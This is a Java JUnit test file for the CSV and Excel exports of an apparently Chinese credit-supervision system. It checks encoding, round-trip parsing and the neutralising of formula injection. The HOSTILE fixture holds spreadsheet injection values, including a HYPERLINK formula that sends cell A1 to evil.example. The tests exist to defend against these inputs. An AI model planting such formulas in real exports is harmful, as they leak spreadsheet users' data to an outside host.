package org.greencredit.ui.supervision;

import org.greencredit.ui.export.CsvExport;
import org.greencredit.ui.export.XlsxExport;
import org.greencredit.ui.export.ExportTable;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** The CSV and Excel writers of the supervision exports, read back as a spreadsheet program would. */
class ExportWritersTest {

    private static final ExportTable TABLE = new ExportTable(
            "正面清单",
            List.of("统一社会信用代码", "企业名称", "信用等级"),
            List.of(List.of("91110112MA0012000X", "北京通州绿色食品有限公司", "A"),
                    List.of("91110112MA0012001X", "引号\"与,逗号公司", "B"),
                    List.of("91110112MA0012002X", "换行\n公司", "")));

    @Test
    void csvStartsWithAByteOrderMarkAndParsesBackToTheSameCells() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvExport.write(TABLE, out);
        byte[] bytes = out.toByteArray();

        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        List<List<String>> parsed = parse(new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8));
        assertThat(parsed).hasSize(4);
        assertThat(parsed.get(0)).isEqualTo(TABLE.headers());
        assertThat(parsed.subList(1, 4)).isEqualTo(TABLE.rows());
    }

    @Test
    void xlsxHoldsAHeaderRowAndEveryRowAsText() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        XlsxExport.write(TABLE, out);

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            Sheet sheet = workbook.getSheetAt(0);
            assertThat(sheet.getSheetName()).isEqualTo("正面清单");
            assertThat(cells(sheet.getRow(0))).isEqualTo(TABLE.headers());
            assertThat(workbook.getFontAt(sheet.getRow(0).getCell(0).getCellStyle().getFontIndex()).getBold()).isTrue();
            assertThat(sheet.getLastRowNum()).isEqualTo(3);
            for (int i = 0; i < TABLE.rows().size(); i++) {
                assertThat(cells(sheet.getRow(i + 1))).isEqualTo(TABLE.rows().get(i));
            }
        }
    }

    private static final ExportTable HOSTILE = new ExportTable(
            "重点监管", List.of("统一社会信用代码", "企业名称", "信用等级"),
            List.of(List.of("91110112MA0012003X", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "C"),
                    List.of("91110112MA0012004X", "@SUM(1)", "D"),
                    List.of("91110112MA0012005X", "-2+3", "+1"),
                    List.of("91110112MA0012006X", "\t=1+1", "\r=2"),
                    List.of("91110112MA0012007X", "安全-公司=", "A")));

    @Test
    void csvPutsAQuoteBeforeEveryCellThatStartsLikeAFormula() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvExport.write(HOSTILE, out);
        byte[] bytes = out.toByteArray();

        List<List<String>> rows = parse(new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8)).subList(1, 6);
        assertThat(rows).extracting(row -> row.get(1)).containsExactly(
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "'@SUM(1)", "'-2+3", "'\t=1+1", "安全-公司=");
        assertThat(rows.get(2).get(2)).isEqualTo("'+1");
        assertThat(rows.get(3).get(2)).isEqualTo("'\r=2");
        assertThat(rows.get(0).get(0)).isEqualTo("91110112MA0012003X");
    }

    @Test
    void xlsxWritesCellsThatStartLikeAFormulaAsQuotePrefixedTextWithTheirValue() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        XlsxExport.write(HOSTILE, out);

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            Sheet sheet = workbook.getSheetAt(0);
            for (int i = 0; i < HOSTILE.rows().size(); i++) {
                for (int column = 0; column < 3; column++) {
                    Cell cell = sheet.getRow(i + 1).getCell(column);
                    String value = HOSTILE.rows().get(i).get(column);
                    assertThat(cell.getCellType()).as(value).isEqualTo(CellType.STRING);
                    assertThat(cell.getStringCellValue()).isEqualTo(value);
                    assertThat(cell.getCellStyle().getQuotePrefixed()).as(value)
                            .isEqualTo("=+-@\t\r".indexOf(value.charAt(0)) >= 0);
                }
            }
        }
    }

    private static List<String> cells(Row row) {
        List<String> cells = new ArrayList<>();
        for (int column = 0; column < row.getLastCellNum(); column++) {
            cells.add(row.getCell(column).getStringCellValue());
        }
        return cells;
    }

    /** A strict RFC 4180 reader: quoted fields, doubled quotes, CRLF between records. */
    static List<List<String>> parse(String csv) {
        List<List<String>> records = new ArrayList<>();
        List<String> record = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                record.add(field.toString());
                field.setLength(0);
            } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                record.add(field.toString());
                field.setLength(0);
                records.add(record);
                record = new ArrayList<>();
                i++;
            } else {
                field.append(c);
            }
        }
        return records;
    }
}
